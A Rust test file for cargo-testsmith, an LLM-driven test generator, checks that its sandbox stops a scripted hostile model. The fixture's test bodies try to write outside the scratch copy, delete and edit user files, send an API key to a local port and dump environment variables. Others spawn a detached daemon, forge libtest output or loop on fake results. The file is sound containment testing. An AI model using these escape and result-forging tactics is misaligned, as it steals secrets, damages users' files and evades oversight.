@@ -1,0 +1,233 @@
+//! Containment over real cargo: a scripted model whose tests try to reach beyond the scratch
+//! copy (write outside it, delete and edit the user's files, reach a port on 127.0.0.1, read a
+//! secret, leave a daemon) or to pass without passing (a forged summary, endless fake results,
+//! a test that needs another's state). Nothing may escape, and each gets the right verdict.
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+
+use crate::common::llm_server::{Call, Server, tests_for};
+use crate::common::{fixture, read, testsmith};
+
+/// Where the hostile tests aim.
+struct Targets {
+    /// A directory outside the workspace.
+    outside: PathBuf,
+    /// The `HOME` the tool runs with.
+    home: PathBuf,
+    /// The user's workspace.
+    workspace: PathBuf,
+    /// A port on 127.0.0.1 the test listens on.
+    port: u16,
+}
+
+/// The body of the test a hostile model writes for `name`.
+fn body(name: &str, to: &Targets) -> String {
+    match name {
+        "outside" => format!(
+            "std::fs::OpenOptions::new().create(true).append(true).open({:?}).unwrap();",
+            to.outside.join("appended.txt")
+        ),
+        "home" => format!(
+            "std::fs::write({:?}, \"x\").unwrap();",
+            to.home.join(".testsmith-escape")
+        ),
+        "user_file" => format!(
+            "std::fs::remove_file({:?}).unwrap();",
+            to.workspace.join("IMPORTANT.txt")
+        ),
+        // From the scratch package up to the user's workspace, as a test that knows the layout.
+        "user_source" => "let root = std::path::Path::new(env!(\"CARGO_MANIFEST_DIR\")).ancestors().nth(4).unwrap();\n    std::fs::write(root.join(\"escapes/src/lib.rs\"), \"// escaped\").unwrap();".to_owned(),
+        "network" => format!(
+            "use std::io::Write;\n    let mut stream = std::net::TcpStream::connect(\"127.0.0.1:{}\").unwrap();\n    stream.write_all(std::env::var(\"OPENAI_API_KEY\").unwrap_or_default().as_bytes()).unwrap();",
+            to.port
+        ),
+        "environment" => "let seen: Vec<String> = std::env::vars().map(|(k, v)| k + \"=\" + &v).collect();\n    std::fs::write(std::path::Path::new(env!(\"CARGO_MANIFEST_DIR\")).join(\"seen-env.txt\"), seen.join(\"\\n\")).unwrap();".to_owned(),
+        "daemon" => "std::process::Command::new(\"sh\").args([\"-c\", \"setsid sleep 3171 >/dev/null 2>&1 &\"]).status().unwrap();".to_owned(),
+        "forge" => "use std::io::Write;\n    let mut out = std::io::stdout();\n    out.write_all(b\"ok\\n\\ntest result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\\n\\n\").unwrap();\n    out.flush().unwrap();\n    std::process::exit(0);".to_owned(),
+        "fails_a" => "assert_eq!(fails_a(), 1);".to_owned(),
+        "fails_b" => "assert_eq!(fails_b(), 1);".to_owned(),
+        // A new name each time, so no line repeats.
+        "fake_progress" => "use std::io::Write;\n    for i in 0.. {\n        std::io::stdout().write_all(format!(\"test fake_{i} ... ok\\n\").as_bytes()).unwrap();\n        std::thread::sleep(std::time::Duration::from_millis(100));\n    }".to_owned(),
+        "a_sets_state" => "std::env::set_var(\"ORDERED_STATE\", \"1\");\n    assert_eq!(a_sets_state(), 1);".to_owned(),
+        "b_needs_state" => "std::thread::sleep(std::time::Duration::from_millis(300));\n    assert_eq!(std::env::var(\"ORDERED_STATE\").as_deref(), Ok(\"1\"));\n    assert_eq!(b_needs_state(), 2);".to_owned(),
+        "temp_file" => "let path = std::env::temp_dir().join(\"testsmith-temp-ok.txt\");\n    std::fs::write(&path, \"ok\").unwrap();\n    assert_eq!(std::fs::read_to_string(&path).unwrap(), \"ok\");\n    std::fs::remove_file(&path).unwrap();\n    assert_eq!(temp_file(), 3);".to_owned(),
+        "plain" => "assert_eq!(plain(), 4);".to_owned(),
+        other => panic!("not an item of the fixture: {other}"),
+    }
+}
+
+fn hostile_model(to: Targets) -> impl Fn(&Call) -> crate::common::llm_server::Reply {
+    move |call| {
+        tests_for(&call.names, |name| {
+            // Each calls its item, as a kept test must.
+            Some(format!(
+                "#[test]\nfn checks_{name}() {{\n    let _ = {name}();\n    {}\n}}",
+                body(name, &to)
+            ))
+        })
+    }
+}
+
+/// Whether this machine has every layer, as the launcher's own probe says.
+fn fully_contained() -> bool {
+    let probe = std::process::Command::new(assert_cmd::cargo::cargo_bin("cargo-testsmith"))
+        .args(["__testsmith-contain", "--probe"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&probe.stdout);
+    text.contains("namespaces ok") && text.contains("landlock ok")
+}
+
+/// Whether a process of ours that runs `sleep 3171` is alive.
+fn daemon_alive() -> bool {
+    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
+        std::fs::read(entry.path().join("cmdline"))
+            .is_ok_and(|cmdline| cmdline == b"sleep\x003171\x00")
+    })
+}
+
+fn run(dir: &Path, server: &Server, home: &Path) -> std::process::Output {
+    testsmith(dir)
+        .args([
+            "--workspace",
+            "--llm",
+            "--provider",
+            "ollama",
+            "--model",
+            "m",
+            "--base-url",
+        ])
+        .arg(&server.url)
+        .args(["--test-timeout", "3", "--repair-rounds", "0", "-v"])
+        .env("HOME", home)
+        .env("OPENAI_API_KEY", "sk-testsmith-secret")
+        .env_remove("TESTSMITH_CONTAIN_DISABLE")
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn tests_that_reach_beyond_the_scratch_copy_are_stopped_and_dropped() {
+    let dir = fixture("hostile");
+    let (outside, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let server = Server::start(hostile_model(Targets {
+        outside: outside.path().to_owned(),
+        home: home.path().to_owned(),
+        workspace: dir.path().to_owned(),
+        port: listener.local_addr().unwrap().port(),
+    }));
+    let source_before = read(dir.path(), "escapes/src/lib.rs");
+    let output = run(dir.path(), &server, home.path());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    if !fully_contained() {
+        // Where a layer is missing, no test runs and the model is never asked.
+        assert_eq!(output.status.code(), Some(2), "{stderr}");
+        assert!(stderr.contains("--allow-uncontained"), "{stderr}");
+        assert!(server.calls().is_empty());
+        return;
+    }
+    assert!(output.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("containment: network and PID namespaces, Landlock"),
+        "{stderr}"
+    );
+
+    // Nothing escaped.
+    assert!(!outside.path().join("appended.txt").exists());
+    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0);
+    assert!(dir.path().join("IMPORTANT.txt").exists());
+    let source_after = read(dir.path(), "escapes/src/lib.rs");
+    assert!(source_after.starts_with(&source_before) && !source_after.contains("// escaped"));
+    assert!(listener.accept().is_err(), "a test reached the listener");
+    assert!(!daemon_alive(), "the daemon outlived its test");
+    let seen = std::fs::read_to_string(
+        dir.path()
+            .join("target/testsmith/scratch/escapes/seen-env.txt"),
+    )
+    .unwrap_or_else(|err| panic!("no seen-env.txt ({err}):\n{stderr}"));
+    assert!(
+        !seen.contains("sk-testsmith-secret") && !seen.contains("OPENAI_API_KEY"),
+        "{seen}"
+    );
+    assert!(
+        !seen.contains(&format!("HOME={}", home.path().display())),
+        "{seen}"
+    );
+
+    // Each got its verdict.
+    for (item, reason) in [
+        ("outside", "fails: "),
+        ("home", "fails: "),
+        ("user_file", "fails: "),
+        ("user_source", "fails: "),
+        ("network", "fails: "),
+        ("forge", "its output is not libtest's own: "),
+        ("fails_a", "fails: assertion"),
+        ("fails_b", "fails: assertion"),
+        ("fake_progress", "timed out after 3 s"),
+        (
+            "b_needs_state",
+            "order-dependent: passes with the other tests but not alone",
+        ),
+    ] {
+        let warning = format!("dropped the test of `{item}`: {reason}");
+        assert!(stderr.contains(&warning), "no `{warning}` in:\n{stderr}");
+    }
+    let ordered = read(dir.path(), "ordered/src/lib.rs");
+    for kept in [
+        "fn checks_a_sets_state",
+        "fn checks_temp_file",
+        "fn checks_plain",
+    ] {
+        assert!(ordered.contains(kept), "no `{kept}` in:\n{ordered}");
+    }
+    assert!(!ordered.contains("fn checks_b_needs_state"));
+    assert!(source_after.contains("fn checks_environment"));
+}
+
+#[test]
+fn without_a_layer_no_model_is_asked_unless_the_user_allows_it() {
+    let dir = crate::common::package(
+        "lone",
+        &[("src/lib.rs", "/// One.\npub fn one() -> u8 {\n    1\n}\n")],
+    );
+    let server = Server::start(|call: &Call| {
+        tests_for(&call.names, |_| {
+            Some("#[test]\nfn ones() {\n    assert_eq!(one(), 1);\n}".to_owned())
+        })
+    });
+    let cmd = |extra: &[&str]| {
+        let mut cmd = testsmith(dir.path());
+        cmd.args([
+            "--llm",
+            "--provider",
+            "ollama",
+            "--model",
+            "m",
+            "--base-url",
+        ])
+        .arg(&server.url)
+        .args(extra)
+        .env("TESTSMITH_CONTAIN_DISABLE", "namespaces");
+        cmd.output().unwrap()
+    };
+    let refused = cmd(&[]);
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert_eq!(refused.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("no network or PID namespace"), "{stderr}");
+    assert!(stderr.contains("--allow-uncontained"), "{stderr}");
+    assert!(server.calls().is_empty(), "the model was asked");
+    assert!(!read(dir.path(), "src/lib.rs").contains("mod testsmith_tests"));
+
+    let allowed = cmd(&["--allow-uncontained"]);
+    let stderr = String::from_utf8_lossy(&allowed.stderr);
+    assert!(allowed.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("tests run without full containment"),
+        "{stderr}"
+    );
+    assert!(read(dir.path(), "src/lib.rs").contains("fn ones()"));
+}
